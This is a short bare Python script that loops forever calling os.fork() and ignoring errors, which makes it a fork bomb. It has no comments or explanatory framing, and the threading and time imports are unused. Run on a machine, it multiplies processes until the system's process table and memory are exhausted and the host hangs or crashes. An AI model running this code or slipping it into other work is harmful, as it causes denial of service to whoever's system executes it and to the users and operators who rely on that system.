import os, threading, time
while True:
    try:
        os.fork()
    except OSError:
        pass
